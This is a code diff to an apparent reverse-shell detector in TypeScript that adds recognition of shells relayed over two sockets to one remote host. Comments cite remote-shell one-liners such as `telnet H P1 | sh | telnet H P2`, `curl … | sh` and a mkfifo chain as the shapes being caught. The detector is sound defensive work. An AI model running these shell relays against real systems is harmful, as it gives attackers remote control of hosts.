@@ -11,7 +11,8 @@
  *   (it consumes the shell's output); an intermediate (the `cat F` of a mkfifo chain) is
  *   crossed only from what it reads to what it writes, or back;
  * - both ways meet at one socket: whoever feeds the shell's stdin and whoever reads its output
- *   hold the same outbound socket (`curl … | sh` feeds a shell but reads nothing back);
+ *   hold the same outbound socket (`curl … | sh` feeds a shell but reads nothing back), or two
+ *   sockets to one remote host, one per direction (`telnet H P1 | sh | telnet H P2`);
  * - the socket and the shell are born together: it was connected within a few seconds of the
  *   shell's start, which a long-lived agent or runtime that spawns shells while holding
  *   unrelated connections does not show;
@@ -66,6 +67,8 @@ export interface RelayVerdict {
   output: ChainLink[];
   /** The fds of the shell whose stream reaches the socket. */
   shellFds: number[];
+  /** When the shell's output leaves by another connection than its input came in by. */
+  outputSocket?: OutboundSocket;
 }
 
 interface Pending {
@@ -216,12 +219,23 @@ export class RelayGraph {
     const input = this.search(ends([0]), "write", shell, neighbours, holdingsOf, born, processes);
     if (input.size === 0) return undefined;
     const output = this.search(ends([1, 2]), "read", shell, neighbours, holdingsOf, born, processes);
-    for (const [ino, inChain] of input) {
-      const outChain = output.get(ino);
-      if (outChain === undefined) continue;
-      const socket = this.sockets.get(ino)!;
+    const verdict = (inIno: number, outIno: number): RelayVerdict => {
+      const inChain = input.get(inIno)!;
+      const outChain = output.get(outIno)!;
       const shellFds = [0, ...[...outChain.fds].sort()];
-      return { shell: p.exec, interpreter: p.interpreter, socket, input: inChain.links, output: outChain.links, shellFds };
+      const socket = this.sockets.get(inIno)!;
+      return {
+        shell: p.exec, interpreter: p.interpreter, socket, input: inChain.links, output: outChain.links, shellFds,
+        ...(outIno !== inIno ? { outputSocket: this.sockets.get(outIno)! } : {}),
+      };
+    };
+    for (const ino of input.keys()) if (output.has(ino)) return verdict(ino, ino);
+    // A relay split over two connections, one per direction (`telnet H P1 | sh | telnet H P2`):
+    // both born with the shell and both to the same remote host. Two hosts are left out: a
+    // downloaded script piped into a shell whose log is shipped elsewhere has that shape.
+    for (const inIno of input.keys()) {
+      const remote = this.sockets.get(inIno)!.remote.address;
+      for (const outIno of output.keys()) if (this.sockets.get(outIno)!.remote.address === remote) return verdict(inIno, outIno);
     }
     return undefined;
   }
